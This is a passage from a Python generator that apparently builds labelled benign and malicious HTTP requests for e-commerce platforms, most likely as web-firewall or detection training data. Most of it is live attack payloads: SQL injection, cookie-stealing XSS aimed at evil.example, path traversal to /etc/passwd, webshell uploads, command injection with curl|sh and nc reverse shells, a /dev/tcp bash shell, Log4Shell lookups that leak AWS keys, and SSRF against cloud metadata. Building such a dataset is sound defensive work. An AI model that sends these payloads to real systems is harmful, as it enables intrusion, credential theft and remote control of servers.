    "<!-- Google tag (gtag.js) -->\n<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-ABC123XYZ');\n</script>",
    "<!-- Meta Pixel Code -->\n<script>\n!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window, document,'script','https://connect.facebook.net/en_US/fbevents.js');\nfbq('init', '1234567890');\nfbq('track', 'PageView');\n</script>",
    "<script type=\"text/javascript\">\n(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};t=l.createElement(r);t.async=1;t.src=\"https://www.clarity.ms/tag/\"+i;y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);})(window, document, \"clarity\", \"script\", \"abcd1234\");\n</script>",
    "<script src=\"https://js.stripe.com/v3/\"></script>\n<div id=\"payment-element\"></div>",
    "<script>document.addEventListener('DOMContentLoaded', function(){ var b = document.querySelector('.promo-bar'); if (b) { b.onclick = function(){ window.location.href = '/collections/sale'; }; } });</script>",
    "<noscript><img height=\"1\" width=\"1\" style=\"display:none\" src=\"https://www.facebook.com/tr?id=1234567890&ev=PageView&noscript=1\"/></noscript>",
]

LIQUID = [
    "{% for product in collection.products %}\n  <div class=\"card\">{{ product.title | escape }} - {{ product.price | money }}</div>\n{% endfor %}",
    "{% if customer %}Hi {{ customer.first_name }}!{% else %}<a href=\"{{ routes.account_login_url }}\">Log in</a>{% endif %}",
    "{{ 'product.css' | asset_url | stylesheet_tag }}\n{% render 'price', product: product, show_compare: true %}",
    "{% assign sorted = collection.products | sort: 'price' %}{% for p in sorted limit: 4 %}{{ p.title }}{% endfor %}",
    "{%- liquid\n  assign discount = product.compare_at_price | minus: product.price\n  echo discount | money\n-%}",
]

TWIG = [
    "{% extends 'base.html.twig' %}\n{% block content %}<h1>{{ node.label }}</h1>{{ content.body }}{% endblock %}",
    "{% for item in items %}<li class=\"{{ loop.first ? 'first' }}\">{{ item.content }}</li>{% endfor %}",
    "{{ 'Order @number shipped'|t({'@number': order.number}) }}",
    "{% set classes = ['block', 'block-' ~ plugin_id|clean_class] %}<div{{ attributes.addClass(classes) }}>{{ content }}</div>",
]

EMAIL_TPL = [
    "Hi {{ order.billing_first_name }},\n\nThanks for your order #{{ order.number }} placed on {{ order.date | date('d M Y') }}.\nTotal: {{ order.total }}\n\n{{ store.name }}",
    "{{trans \"Your %store_name order confirmation\" store_name=$store.frontend_name}}\n{{var order.increment_id}}\n{{layout handle=\"sales_email_order_items\" order_id=$order_id area=\"frontend\"}}",
    "<p>Dear {{customer.name}},</p><p>Your password reset link: <a href=\"{{reset_url}}\">{{reset_url}}</a></p><p>If you didn't request this, ignore this e-mail.</p>",
    "Hello {{ first_name | default: 'there' }}, your cart misses you! Use code {{ coupon_code }} for {{ discount }}% off.",
]

REPORTS = [
    "SELECT DATE(order_date) AS day, SUM(total) AS revenue FROM orders WHERE status = 'completed' GROUP BY day ORDER BY day DESC",
    "SELECT sku, name, SUM(qty) AS sold FROM order_items JOIN products USING (product_id) GROUP BY sku, name ORDER BY sold DESC LIMIT 20",
    "SELECT c.email, COUNT(o.id) AS orders FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2024-01-01' GROUP BY c.email HAVING COUNT(o.id) > 3",
    "select coupon_code, count(*) from orders where coupon_code is not null and coupon_code <> '' group by coupon_code union all select 'TOTAL', count(*) from orders",
    "SELECT region, AVG(total) FROM orders WHERE country IN ('US','CA') AND total BETWEEN 10 AND 500 GROUP BY region",
]


def gen_devcontent():
    for i, snip in enumerate(TRACKING_SNIPPETS * 2):
        if i % 2 == 0:
            devc("widget", "POST", "/wp-admin/widgets.php", headers(ctype=FORM),
                 form([("widget-custom_html[%d][title]" % i, "Tracking"), ("widget-custom_html[%d][content]" % i, snip),
                       ("id_base", "custom_html"), ("savewidgets", "%010x" % rng.getrandbits(40)), ("sidebar", "footer-1")]))
        else:
            devc("widget", "POST", "/admin/themes/%d/assets.json" % rng.randint(1000, 9999), headers(ctype=JSON_CT),
                 jdump({"asset": {"key": "snippets/tracking-%d.liquid" % i, "value": snip}}))
    for i, t in enumerate(LIQUID * 2):
        devc("liquid", "PUT", "/admin/api/2024-04/themes/%d/assets.json" % rng.randint(10**8, 10**9),
             headers(ctype=JSON_CT, extra=[("X-Shopify-Access-Token", "shpat_%032x" % rng.getrandbits(128))]),
             jdump({"asset": {"key": rng.choice(["sections/collection.liquid", "snippets/card.liquid", "templates/product.liquid"]), "value": t}}))
    for i, t in enumerate(TWIG * 2):
        devc("twig", "POST", "/admin/structure/block/manage/custom_%d?destination=/admin/structure/block" % i, headers(ctype=FORM),
             form([("settings[body][value]", t), ("settings[label]", "Custom block %d" % i), ("form_id", "block_form"),
                   ("form_token", "%043x" % rng.getrandbits(172)), ("op", "Save block")]))
    for i, t in enumerate(EMAIL_TPL * 2):
        if i % 2:
            devc("email-template", "POST", "/admin/admin/email_template/save/", headers(ctype=FORM),
                 form([("template_code", "Order confirmation %d" % i), ("template_subject", "{{trans \"Your order\"}} #{{var order.increment_id}}"),
                       ("template_text", t), ("form_key", "%016x" % rng.getrandbits(64))]))
        else:
            devc("email-template", "POST", "/wp-admin/admin.php?page=wc-settings&tab=email&section=wc_email_customer_processing_order",
                 headers(ctype=FORM), form([("woocommerce_customer_processing_order_subject", "Your {site_title} order #{order_number}"),
                                            ("woocommerce_customer_processing_order_additional_content", t), ("_wpnonce", "%010x" % rng.getrandbits(40))]))
    for i, r in enumerate(REPORTS * 2):
        devc("report", "POST", "/wp-json/wc-analytics/reports/custom", headers(ctype=JSON_CT),
             jdump({"name": "Report %d" % i, "description": "Weekly sales; drop rows with status 'trash'", "sql": r, "schedule": "weekly"}))


# ---------------------------------------------------------------------------
# Attack generators
# ---------------------------------------------------------------------------

SQLI = [
    "' OR '1'='1",
    "x' OR 1=1-- -",
    "SPRING25' UNION SELECT user_login,user_pass FROM wp_users-- -",
    "' UNION ALL SELECT NULL,NULL,CONCAT(0x71,user(),0x71)#",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- x",
    "'; WAITFOR DELAY '0:0:5'--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -",
    "' AND updatexml(1,concat(0x7e,version()),1)#",
    "1; DROP TABLE wp_posts-- -",
    "'; INSERT INTO admin_user(username,password) VALUES('x','y')-- ",
    "1' AND (SELECT SUBSTRING(password,1,1) FROM customer_entity LIMIT 1)='a",
    "1 OR pg_sleep(5)--",
    "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(4) ELSE pg_sleep(0) END)--",
    "1' AND BENCHMARK(5000000,MD5(1))#",
    "-1 UNION SELECT 1,load_file('/etc/passwd'),3",
    "1' AND ASCII(SUBSTR((SELECT user()),1,1))>64-- -",
    "')) OR 1=1 LIMIT 1#",
    "\" OR \"\"=\"",
]


def gen_attack_sqli():
    for i, p in enumerate(SQLI):
        attack("sqli", "coupon", "POST", "/?wc-ajax=apply_coupon", headers(ctype=FORM, accept=ACCEPT_JSON),
               form([("security", "%010x" % rng.getrandbits(40)), ("coupon_code", p)]))
    orderby = [
        "price,(SELECT 1 FROM (SELECT SLEEP(5))x)",
        "(CASE WHEN (1=1) THEN price ELSE title END)",
        "IF(1=1,price,(SELECT 1 UNION SELECT 2))",
        "post_date DESC,extractvalue(1,concat(0x7e,user()))",
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "price; SELECT pg_sleep(5)--",
        "title` desc,(select(sleep(5)))#",
        "name ASC LIMIT 1 UNION SELECT password FROM admin_user",
    ]
    for i, p in enumerate(orderby):
        if i % 3 == 0:
            attack("sqli", "orderby", "GET", "/shop/?" + qs([("orderby", p), ("paged", "1")]), headers())
        elif i % 3 == 1:
            attack("sqli", "orderby", "GET", "/women/tops.html?" + qs([("product_list_order", p), ("product_list_dir", "asc")]), headers())
        else:
            attack("sqli", "orderby", "GET", "/wp-json/wc/store/v1/products?" + qs([("orderby", p), ("order", "desc")]), headers(accept=ACCEPT_JSON))
    filters = [
        ("/collections/all?" , "filter.v.price.gte", "0 OR 1=1"),
        ("/shop/?", "min_price", "1 UNION SELECT 1,2,3,4-- -"),
        ("/shop/?", "filter_color", "blue') AND SLEEP(5)#"),
        ("/catalogsearch/result/?", "q", "shoes%' AND 1=(SELECT COUNT(*) FROM information_schema.tables)-- -"),
        ("/index.php?", "category_id", "5 AND 1=2 UNION SELECT table_name FROM information_schema.tables"),
        ("/?", "product_cat", "shoes' AND '1'='1"),
        ("/catalog/category/view/id/3?", "price", "10-20' OR SLEEP(5)#"),
        ("/index.php?route=product/category&", "path", "20 AND (SELECT 4421 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)"),
    ]
    for path, name, p in filters:
        attack("sqli", "filter", "GET", path + qs([(name, p)]), headers())
    plugins = [
        ("GET", "/wp-admin/admin-ajax.php?" + qs([("action", "get_product_variations"), ("product_id", "12 UNION SELECT user_pass FROM wp_users")])),
        ("GET", "/wp-content/plugins/wp-ecommerce-shop/ajax.php?" + qs([("id", "-1' union select 1,2,group_concat(user_login,0x3a,user_pass) from wp_users-- -")])),
        ("POST", "/wp-admin/admin-ajax.php"),
        ("GET", "/index.php?" + qs([("option", "com_virtuemart"), ("view", "productdetails"), ("virtuemart_product_id", "1 AND 1=1 AND SLEEP(5)")])),
        ("GET", "/?" + qs([("rest_route", "/wc/v3/products"), ("search", "a' OR 1=1#")])),
        ("GET", "/index.php?" + qs([("option", "com_hikashop"), ("ctrl", "product"), ("cid", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7e,version()))s), 8446744073709551610, 8446744073709551610)))-- x")])),
    ]
    for i, (m, uri) in enumerate(plugins):
        if m == "POST":
            attack("sqli", "plugin", "POST", uri, headers(ctype=FORM),
                   form([("action", "wcpf_filter"), ("ids", "1) OR 1=1 UNION SELECT user_email,user_pass FROM wp_users-- -")]))
        else:
            attack("sqli", "plugin", "GET", uri, headers())
    # JSON / GraphQL / cookie / header injection points
    attack("sqli", "json", "POST", "/rest/V1/guest-carts/abc/coupons", headers(ctype=JSON_CT),
           jdump({"couponCode": "X' UNION SELECT password FROM admin_user WHERE '1'='1"}))
    attack("sqli", "json", "POST", "/graphql", headers(ctype=JSON_CT),
           jdump({"query": "{ products(filter: {sku: {eq: \"1' OR SLEEP(5)-- -\"}}) { items { name } } }"}))
    attack("sqli", "json", "POST", "/wp-json/wc/store/v1/cart/apply-coupon", headers(ctype=JSON_CT),
           jdump({"code": "' AND 1=(SELECT 1 FROM pg_sleep(5))--"}))
    attack("sqli", "cookie", "GET", "/cart", headers(extra=[("Cookie", "store=default' AND SLEEP(5)#; form_key=abc")], with_cookie=False))
    attack("sqli", "cookie", "GET", "/shop/", headers(extra=[("Cookie", "woocommerce_recently_viewed=1|2|3) UNION SELECT user_pass FROM wp_users-- -")], with_cookie=False))
    attack("sqli", "header", "GET", "/", headers(extra=[("X-Forwarded-For", "1.2.3.4' AND SLEEP(5)-- -")]))
    attack("sqli", "header", "GET", "/checkout", headers(extra=[("Referer", "https://x.test/' UNION SELECT 1,2,3-- -")]))
    # encoding variants
    attack("sqli", "encoded", "GET", "/shop/?orderby=" + q(q("price UNION SELECT 1,2,3-- -")), headers())
    attack("sqli", "encoded", "GET", "/shop/?orderby=price%2F**%2FUNION%2F**%2FSELECT%2F**%2Fuser_pass%2F**%2FFROM%2F**%2Fwp_users", headers())
    attack("sqli", "encoded", "GET", "/?s=" + q("x' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3-- -"), headers())
    attack("sqli", "encoded", "GET", "/catalogsearch/result/?q=x%27%09OR%091%3D1%23", headers())
    attack("sqli", "encoded", "GET", "/?p=1%20aNd%20(SeLeCt%201%20FrOm%20(SeLeCt%20SlEeP(5))a)", headers())
    attack("sqli", "encoded", "POST", "/?wc-ajax=apply_coupon", headers(ctype=FORM),
           "security=abc&coupon_code=" + q("X'+UNION+SELECT+1,2,3--+-", "+"))


XSS = [
    "<script>alert(document.cookie)</script>",
    "Great product!<script src=https://evil.example/k.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/?c='+document.cookie)>",
    "<body onload=alert('xss')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(document.domain)\">see photos</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<details open ontoggle=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>sale</marquee>",
    "<img src=\"x\" onmouseover=\"document.location='https://evil.example/?'+document.cookie\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


def gen_attack_xss():
    for i, p in enumerate(XSS):
        if i % 2 == 0:
            attack("xss", "review", "POST", "/wp-comments-post.php", headers(ctype=FORM),
                   form([("rating", "5"), ("comment", p), ("author", "Jane"), ("email", "j@example.com"), ("comment_post_ID", "123")]))
        else:
            attack("xss", "review", "POST", "/review/product/post/id/%d/" % (100 + i), headers(ctype=FORM),
                   form([("ratings[1]", "5"), ("nickname", "Bob"), ("title", "Nice"), ("detail", p), ("form_key", "abc123")]))
    names = ["Tee <script>alert(1)</script>", "Mug\"><svg onload=alert(1)>", "<img src=1 onerror=alert(document.cookie)>Hoodie",
             "Chair<iframe srcdoc=\"<script>parent.alert(1)</script>\">"]
    for i, n in enumerate(names):
        attack("xss", "product-name", "POST", "/wp-admin/post.php", headers(ctype=FORM),
               form([("post_ID", str(200 + i)), ("post_title", n), ("action", "editpost"), ("post_type", "product"), ("_wpnonce", "0a1b2c3d4e")]))
    attack("xss", "product-name", "PUT", "/rest/all/V1/products/SKU-9", headers(ctype=JSON_CT),
           jdump({"product": {"sku": "SKU-9", "name": "Bag<script>fetch('//x.example/'+document.cookie)</script>"}}))
    svgs = [
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">alert(document.cookie)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="0" y="15">Logo</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>',
    ]
    for i, s in enumerate(svgs):
        mct, body = multipart([("name", "logo%d.svg" % i), ("action", "upload-attachment"), ("_wpnonce", "abc")], [("async-upload", "logo%d.svg" % i, "image/svg+xml", s)])
        attack("xss", "svg-upload", "POST", "/wp-admin/async-upload.php", headers(ctype=mct), body)
    # reflected / URL-encoded variants
    refl = [
        ("/?s=", "<script>alert(1)</script>"),
        ("/catalogsearch/result/?q=", "\"><img src=x onerror=alert(1)>"),
        ("/search?q=", "<svg onload=alert`1`>"),
        ("/account/login?return_url=", "javascript:alert(document.cookie)"),
        ("/checkout/cart/?coupon_code=", "</script><script>alert(1)</script>"),
    ]
    for path, p in refl:
        attack("xss", "reflected", "GET", path + q(p), headers())
    attack("xss", "encoded", "GET", "/?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E", headers())
    attack("xss", "encoded", "GET", "/search?q=%3Cimg%20src%3Dx%20onerror%3D%26%2397%3B%26%23108%3B%26%23101%3B%26%23114%3B%26%23116%3B(1)%3E", headers())
    attack("xss", "encoded", "POST", "/cart/add.js", headers(ctype=JSON_CT),
           '{"items":[{"id":1,"quantity":1,"properties":{"Engraving":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}}]}')
    attack("xss", "encoded", "GET", "/collections/all?sort_by=%22%20onmouseover%3D%22alert(1)", headers())
    attack("xss", "header", "GET", "/wp-admin/", headers(extra=[("Referer", "https://x.example/\"><script>alert(1)</script>")]))
    attack("xss", "checkout", "POST", "/?wc-ajax=checkout", headers(ctype=FORM),
           form([("billing_first_name", "<script>new Image().src='//evil.example/?'+document.cookie</script>"), ("billing_last_name", "X"),
                 ("order_comments", "<img src=x onerror=alert(1)>"), ("payment_method", "cod")]))


LFI = [
    "../../../../etc/passwd",
    "../../../wp-config.php",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/passwd%00.jpg",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2fetc%2fenv.php",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/proc/self/environ",
    "../../../../../sites/default/settings.php",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "../../../configuration.php",
]


def gen_attack_lfi():
    targets = [
        ("GET", "/wp-content/plugins/woo-downloads/download.php?file="),
        ("GET", "/index.php?option=com_jdownloads&task=download&file="),
        ("GET", "/?download_file=12&order=wc_order_x&file="),
        ("GET", "/pub/get.php?resource="),
        ("GET", "/index.php?route=extension/module/template&template="),
        ("GET", "/wp-admin/admin-ajax.php?action=load_template&tpl="),
    ]
    for i, p in enumerate(LFI):
        m, base = targets[i % len(targets)]
        enc = p if "%" in p else q(p, "/")
        attack("lfi", "download" if i % 2 == 0 else "template", m, base + enc, headers())
    attack("lfi", "template", "POST", "/admin/cms/wysiwyg/directive/", headers(ctype=FORM),
           form([("template", "../../../../../app/etc/env.php"), ("form_key", "x")]))
    attack("lfi", "template", "POST", "/wp-admin/admin-ajax.php", headers(ctype=FORM),
           form([("action", "woof_draw_products"), ("template", "../../../../../../etc/shadow")]))
    attack("lfi", "path", "GET", "/static/..%2f..%2f..%2f..%2fetc/passwd", headers())
    attack("lfi", "path", "GET", "/media/catalog/product/../../../app/etc/env.php", headers())
    attack("lfi", "json", "POST", "/wp-json/shop/v1/export", headers(ctype=JSON_CT), jdump({"format": "csv", "path": "../../../../etc/passwd"}))
    attack("lfi", "multipart-filename", "POST", "/admin/catalog/product_gallery/upload/",
           *(lambda m: (headers(ctype=m[0]), m[1]))(multipart([("form_key", "x")], [("image", "../../../pub/shell.jpg", "image/jpeg", fake_binary("JFIF"))])))


def gen_attack_rfi():
    rfi = [
        ("/wp-content/plugins/shop-styles/include.php?" , "file", "http://evil.example/shell.txt?"),
        ("/index.php?", "page", "https://attacker.test/c99.txt"),
        ("/components/com_shop/shop.php?", "mosConfig_absolute_path", "http://evil.example/r57.txt??"),
        ("/?", "template", "ftp://evil.example/x.php"),
        ("/index.php?route=common/home&", "tpl", "http://198.51.100.7/inc.txt%00"),
        ("/wp-admin/admin-ajax.php?action=import_layout&", "url", "\\\\evil.example\\share\\shell.php"),
        ("/modules/payment/load.php?", "lang", "https://pastebin.com/raw/AbCd1234"),
    ]
    for path, name, p in rfi:
        attack("rfi", "include", "GET", path + name + "=" + (p if "%00" in p else q(p)), headers())


PHP_OBJ = [
    'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}',
    'a:2:{i:0;O:29:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}i:1;i:7;}',
    'O:40:"Magento\\Framework\\Simplexml\\Config\\Cache\\File":1:{s:8:"\x00*\x00_data";a:1:{s:3:"cmd";s:6:"whoami";}}',
    'O:21:"WC_Log_Handler_File":1:{s:10:"\x00*\x00handles";O:8:"Requests":0:{}}',
    'C:11:"ArrayObject":37:{x:i:0;a:1:{s:1:"x";O:1:"X":0:{}};m:a:0:{}}',
    'O:+14:"Monolog\\Logger":1:{s:7:"handler";s:6:"system";}',
]


def gen_attack_php():
    for i, p in enumerate(PHP_OBJ):
        if i % 3 == 0:
            attack("php", "object-injection", "GET", "/cart", headers(with_cookie=False, extra=[("Cookie", "wp_woocommerce_session_x=" + q(p))]))
        elif i % 3 == 1:
            attack("php", "object-injection", "POST", "/wp-admin/admin-ajax.php", headers(ctype=FORM),
                   form([("action", "yith_wcwl_add"), ("data", p)]))
        else:
            import base64
            attack("php", "object-injection", "POST", "/checkout/cart/add/", headers(ctype=FORM),
                   form([("product", "1"), ("options", p), ("uenc", base64.b64encode(p.encode()).decode())]))
    attack("php", "object-injection", "POST", "/rest/V1/guest-carts/abc/estimate-shipping-methods", headers(ctype=JSON_CT),
           jdump({"address": {"totalsReader": {"collectorList": {"_data": 'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:36:"filename";s:16:"pub/media/x.php";}'}}}}))
    wrappers = [
        ("/index.php?route=", "php://filter/convert.base64-encode/resource=config"),
        ("/?template=", "php://filter/read=string.rot13/resource=../wp-config.php"),
        ("/download.php?file=", "php://input"),
        ("/index.php?page=", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
        ("/index.php?view=", "phar://./pub/media/tmp/catalog/product/x.jpg/test.txt"),
        ("/wp-admin/admin-ajax.php?action=wcpdf&file=", "expect://id"),
        ("/index.php?option=com_shop&layout=", "zip://../../pub/media/up.zip%23shell.php"),
        ("/?lang=", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp"),
    ]
    for path, p in wrappers:
        attack("php", "wrapper", "GET", path + (p if "%23" in p else q(p, "/")), headers())
    attack("php", "wrapper", "POST", "/download.php?file=php://input", headers(ctype=FORM), "<?php system($_GET['c']); ?>")
    attack("php", "wrapper", "POST", "/wp-json/import/v1/image", headers(ctype=JSON_CT), jdump({"url": "phar:///var/www/html/wp-content/uploads/2024/05/avatar.jpg"}))
    # Drupal render-array injection (Drupalgeddon2-style)
    drupal = [
        ("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
         [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "exec"), ("mail[#type]", "markup"), ("mail[#markup]", "id")]),
        ("/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
         [("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("timezone[a][#lazy_builder][]", "passthru"), ("timezone[a][#lazy_builder][][]", "uname -a")]),
        ("/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=whoami",
         [("form_id", "user_pass"), ("_triggering_element_name", "name")]),
        ("/node/1/edit?destination=node?q[%2523post_render][]=passthru%26q[%2523type]=markup%26q[%2523markup]=id", [("form_id", "node_page_edit_form")]),
        ("/user/register?element_parents=account/mail/%23value&ajax_form=1",
         [("form_id", "user_register_form"), ("mail[#pre_render][]", "system"), ("mail[#children]", "cat /etc/passwd")]),
    ]
    for uri, pairs in drupal:
        attack("php", "drupal-render", "POST", uri, headers(ctype=FORM), form(pairs))
    attack("php", "code-injection", "POST", "/wp-admin/admin-ajax.php", headers(ctype=FORM),
           form([("action", "wpgdprc_process_action"), ("data", '{"type":"save_setting","value":"<?php eval(base64_decode($_POST[x])); ?>"}')]))
    attack("php", "code-injection", "GET", "/index.php?" + qs([("option", "com_fields"), ("filter", "${@system('id')}")]), headers())
    attack("php", "webshell-upload", "POST", "/wp-admin/async-upload.php",
           *(lambda m: (headers(ctype=m[0]), m[1]))(multipart([("action", "upload-attachment")], [("async-upload", "img.php.jpg", "image/jpeg", "GIF89a<?php @eval($_REQUEST['c']); ?>")])))


CMDI = [
    "100x100;id",
    "300x300|cat /etc/passwd",
    "80`whoami`",
    "$(curl http://evil.example/s.sh|sh)",
    "90 && wget http://198.51.100.4/x -O /tmp/x",
    "-resize 100x100 -write /var/www/html/shell.php",
    "png;nc -e /bin/sh 203.0.113.5 4444",
    "70%0Auname -a",
    "jpeg||ping -c 3 127.0.0.1",
    "${IFS}cat${IFS}/etc/shadow",
]


def gen_attack_rce():
    for i, p in enumerate(CMDI):
        if i % 3 == 0:
            uri = "/media/resize.php?" + qs([("src", "catalog/product/a.jpg"), ("size", p)])
        elif i % 3 == 1:
            uri = "/wp-content/plugins/img-optimizer/convert.php?" + qs([("file", "banner.png"), ("quality", p)])
        else:
            uri = "/cdn/image?" + qs([("url", "/p/1.jpg"), ("format", p)])
        if "%0A" in p:
            uri = uri.replace(q(p), q(p.replace("%0A", "\n")))
        attack("rce", "image-param", "GET", uri, headers())
    fnames = ["a.jpg;id;.jpg", "$(id).png", "x`sleep 5`.jpg", "img.jpg|nc 203.0.113.9 9001", "photo.png && rm -rf /tmp/cache"]
    for fn in fnames:
        mct, body = multipart([("action", "upload")], [("file", fn, "image/jpeg", fake_binary("JFIF"))])
        attack("rce", "filename", "POST", "/admin/catalog/product_gallery/upload/", headers(ctype=mct), body)
    attack("rce", "imagetragick", "POST", "/wp-admin/async-upload.php",
           *(lambda m: (headers(ctype=m[0]), m[1]))(multipart([("action", "upload-attachment")],
               [("async-upload", "x.mvg", "image/jpeg", 'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://example.com/image.jpg"|curl "http://evil.example/x.sh" | bash")\'\npop graphic-context')])))
    attack("rce", "json", "POST", "/wp-json/media/v1/convert", headers(ctype=JSON_CT), jdump({"id": 12, "args": "-quality 80; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.2/443 0>&1'"}))
    attack("rce", "shellshock", "GET", "/cgi-bin/cart.cgi", headers(ua="() { :; }; /bin/bash -c 'curl http://evil.example/p'"))
    attack("rce", "shellshock", "GET", "/cgi-bin/store.pl", headers(extra=[("Referer", "() { ignored; }; echo; /bin/cat /etc/passwd")]))
    attack("rce", "powershell", "GET", "/export?" + qs([("format", "csv"), ("name", "report & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")]), headers())


def gen_attack_java():
    jndi = [
        "${jndi:ldap://evil.example:1389/a}",
        "${jndi:rmi://203.0.113.7/obj}",
        "${${lower:j}ndi:${lower:l}dap://x.evil.example/z}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/b}",
    ]
    hdrs = ["User-Agent", "X-Forwarded-For", "Referer", "X-Api-Version", "Authorization", "X-Shopify-Shop-Domain"]
    for i, p in enumerate(jndi):
        h = headers(ua=p) if hdrs[i] == "User-Agent" else headers(extra=[(hdrs[i], ("Bearer " if hdrs[i] == "Authorization" else "") + p)])
        attack("java", "log4shell-header", "GET", rng.choice(["/", "/cart", "/api/storefront/products", "/checkout"]), h)
    attack("java", "log4shell-param", "GET", "/search?" + qs([("q", "${jndi:ldap://evil.example/x}")]), headers())
    attack("java", "log4shell-param", "POST", "/api/checkout", headers(ctype=JSON_CT), jdump({"email": "${jndi:ldaps://evil.example:636/e}", "cart": "c1"}))
    attack("java", "spring", "POST", "/store/api/cart", headers(ctype=FORM),
           form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"),
                 ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")]))
    attack("java", "ognl", "GET", "/shop/checkout.action?" + qs([("redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "")]), headers())
    attack("java", "deser", "POST", "/api/session", headers(ctype="application/x-java-serialized-object"), "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7")


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://localhost:9200/_cat/indices",
    "http://[::1]:11211/stats",
    "http://0.0.0.0:2375/containers/json",
    "http://2130706433/admin",
    "http://0x7f000001:8080/manager/html",
    "http://0177.0.0.1/server-status",
    "http://2852039166/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3F%3E%22",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stat",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://redis.default.svc.cluster.local:6379/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://evil.example@127.0.0.1:8500/v1/agent/self",
    "http://127.1/wp-admin/",
    "http://localhost#@evil.example/",
]


def gen_attack_ssrf():
    for i, u in enumerate(SSRF_URLS):
        k = i % 4
        if k == 0:
